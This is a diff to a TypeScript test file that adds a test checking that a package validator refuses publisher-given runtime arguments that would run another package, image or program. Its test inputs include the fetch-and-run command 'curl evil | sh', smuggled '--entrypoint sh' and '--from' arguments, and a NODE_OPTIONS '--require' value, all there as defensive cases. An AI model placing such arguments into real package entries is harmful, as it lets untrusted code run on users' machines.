@@ -175,6 +175,38 @@ test('a package that would make the runtime do something else is refused', () =>
   assert.match(problemOf(npm({ runtimeHint: 'sh', runtimeArguments })) ?? '', /runtime "sh"/)
 })
 
+test('a publisher cannot give a runtime an argument with which another package or program would run', () => {
+  const oci = (runtimeArguments: EntryArgument[]) => npm({ registryType: 'oci', identifier: 'files', runtimeArguments })
+  const refused: [EntryPackage, string][] = [
+    [npm({ runtimeArguments: [{ type: 'positional', value: 'evil-package' }] }), 'a package before the named one'],
+    [npm({ runtimeArguments: [{ type: 'positional', valueHint: 'package' }] }), 'a word that somebody gives'],
+    [npm({ runtimeArguments: [{ type: 'named', name: '--call', value: 'curl evil | sh' }] }), 'a command'],
+    [npm({ runtimeArguments: [{ type: 'named', name: '--call=curl evil | sh' }] }), 'a command in one word'],
+    [npm({ runtimeArguments: [{ type: 'named', name: '-p', value: 'evil' }] }), 'another package'],
+    [
+      npm({
+        registryType: 'pypi',
+        identifier: 'files',
+        runtimeArguments: [{ type: 'named', name: '--from', value: 'evil' }]
+      }),
+      '--from'
+    ],
+    [
+      npm({
+        registryType: 'pypi',
+        identifier: 'files',
+        runtimeArguments: [{ type: 'named', name: '--with', value: 'evil' }]
+      }),
+      '--with'
+    ],
+    [oci([{ type: 'positional', value: 'evil/image' }]), 'an image before the named one'],
+    [oci([{ type: 'named', name: '--entrypoint', value: 'sh' }]), 'another program'],
+    [oci([{ type: 'named', name: '-v' }]), 'an option that takes the image as its value'],
+    [oci([{ type: 'named', name: '--rm', value: 'evil/image' }]), 'a flag with an image behind it']
+  ]
+  for (const [item, what] of refused) assert.match(problemOf(item) ?? '', /something else could run/, what)
+})
+
 test('a publisher cannot set variables that load other code, while a person can', () => {
   const withVariable = (members: object) => npm({ environmentVariables: [{ name: 'NODE_OPTIONS', ...members }] })
   assert.match(problemOf(withVariable({ value: '--require=/tmp/x' })) ?? '', /NODE_OPTIONS/)
